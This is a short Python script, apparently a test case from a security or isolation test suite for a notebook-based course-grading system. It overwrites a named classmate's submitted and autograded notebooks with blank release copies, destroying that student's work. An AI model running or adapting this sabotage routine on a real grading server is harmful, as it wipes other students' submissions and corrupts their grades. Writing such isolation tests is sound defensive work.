# class: disk
# what: the classmate's submitted and autograded notebooks (every assignment) are overwritten with the blank release
# after: setup
# danger: disk
# ruff: noqa
import glob
import os
import shutil

ME = "disk_overwrite_classmate"
CLASSMATE = "victim"


# include: course_dirs


_course = _my_course()
if _course:
    for _blank in glob.glob(os.path.join(_course, "assignments", "*", "*.ipynb")):
        _a = os.path.basename(os.path.dirname(_blank))
        for _folder in ("submitted", "autograded"):
            for _theirs in glob.glob(os.path.join(_course, _folder, CLASSMATE, _a, "*.ipynb")):
                shutil.copyfile(_blank, _theirs)
